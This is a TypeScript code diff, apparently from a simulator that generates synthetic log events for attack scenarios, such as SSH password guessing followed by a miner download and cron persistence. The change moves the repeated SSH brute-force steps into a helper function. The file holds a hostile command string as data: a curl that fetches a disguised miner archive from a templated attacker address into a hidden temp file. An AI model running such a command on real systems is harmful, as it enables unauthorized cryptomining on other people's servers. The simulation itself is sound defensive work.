@@ -106,6 +106,20 @@ const EDR = { alert_module: 'endpoint', alert_product: 'Defender for Endpoint', 
 const ATTACHMENT_DIR = 'C:\\Users\\{{victim.sam}}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{hex8}}';
 const LOCKER = { image: 'C:\\Windows\\Temp\\{{hex8}}.exe' };
 
+/**
+ * Into a server over SSH: password guesses for a real account from the attacker's address (auth.log and audit.log
+ * see the same attempts), then the guess that works. The chain's first stage ends with the guesses.
+ */
+function sshEntry(guesses: NonNullable<StepSpec['repeat']>, thenAfter: StepSpec['after']): StepSpec[] {
+  const from = { attacker_ip: '{{attacker.ip}}' };
+  return [
+    { name: 'guess', source: 'linux-auth', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', repeat: guesses, values: from },
+    { name: 'guess-audit', source: 'linux-auditd', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', alongside: 'guess', after: { min_s: 1.8, median_s: 2, max_s: 2.3 }, values: from, stage_end: true },
+    { name: 'login', source: 'linux-auth', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', after: thenAfter, values: from },
+    { name: 'login-audit', source: 'linux-auditd', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', values: from },
+  ];
+}
+
 const MINER_FETCH = '/usr/bin/curl -fsSL http://{{attacker.ip}}/x/kworker.tar.gz -o /var/tmp/.k.tgz';
 
 export const CHAINS: readonly ScenarioSpec[] = [
@@ -117,10 +131,7 @@ export const CHAINS: readonly ScenarioSpec[] = [
     server: { roles: ['build'], environment: 'prod' },
     when: 'any',
     steps: [
-      { name: 'guess', source: 'linux-auth', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', repeat: { min: 10, max: 40, gap: seconds(5) }, values: { attacker_ip: '{{attacker.ip}}' } },
-      { name: 'guess-audit', source: 'linux-auditd', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', alongside: 'guess', after: { min_s: 1.8, median_s: 2, max_s: 2.3 }, values: { attacker_ip: '{{attacker.ip}}' }, stage_end: true },
-      { name: 'login', source: 'linux-auth', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', after: seconds(8), values: { attacker_ip: '{{attacker.ip}}' } },
-      { name: 'login-audit', source: 'linux-auditd', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', values: { attacker_ip: '{{attacker.ip}}' } },
+      ...sshEntry({ min: 10, max: 40, gap: seconds(5) }, seconds(8)),
       { name: 'fetch', source: 'linux-auth', event: 'sudo', techniques: ['T1105'], tactic: 'command-and-control', host: 'server', after: seconds(50), values: { command: MINER_FETCH } },
       { name: 'mine', source: 'host-metrics', event: 'spell', techniques: ['T1496.001'], tactic: 'impact', host: 'server', after: minutes(1), spell: { kind: 'crypto-miner', duration: { min_s: 3 * 3600, median_s: 6 * 3600, max_s: 14 * 3600 } } },
       alert('alert-miner', { alert_rule: 'Sustained full CPU with a known miner process on a server', alert_rule_id: 'HIDS-5120', alert_category: 'Impact', alert_severity: '73', alert_module: 'hids', alert_product: 'Wazuh', alert_observer_type: 'hids', technique_id: 'T1496.001', technique_name: 'Compute Hijacking', tactic_id: 'TA0040', tactic_name: 'Impact' }, ['T1496.001'], 'impact', 'server'),
@@ -161,10 +172,7 @@ export const CHAINS: readonly ScenarioSpec[] = [
     server: { roles: ['bastion'], environment: 'prod' },
     when: 'off_hours',
     steps: [
-      { name: 'guess', source: 'linux-auth', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', repeat: { min: 15, max: 60, gap: seconds(4) }, values: { attacker_ip: '{{attacker.ip}}' } },
-      { name: 'guess-audit', source: 'linux-auditd', event: 'attack_password_failure', techniques: ['T1110.001'], tactic: 'credential-access', host: 'server', alongside: 'guess', after: { min_s: 1.8, median_s: 2, max_s: 2.3 }, values: { attacker_ip: '{{attacker.ip}}' }, stage_end: true },
-      { name: 'login', source: 'linux-auth', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', after: seconds(6), values: { attacker_ip: '{{attacker.ip}}' } },
-      { name: 'login-audit', source: 'linux-auditd', event: 'attack_password_login', techniques: ['T1078.003'], tactic: 'initial-access', host: 'server', values: { attacker_ip: '{{attacker.ip}}' } },
+      ...sshEntry({ min: 15, max: 60, gap: seconds(4) }, seconds(6)),
       { name: 'fetch', source: 'linux-auth', event: 'sudo', techniques: ['T1105'], tactic: 'command-and-control', host: 'server', after: minutes(1), values: { command: FETCH_COMMAND } },
       { name: 'persist', source: 'linux-auth', event: 'sudo', techniques: ['T1053.003'], tactic: 'persistence', host: 'server', after: minutes(2), values: { command: CRON_COMMAND } },
       {
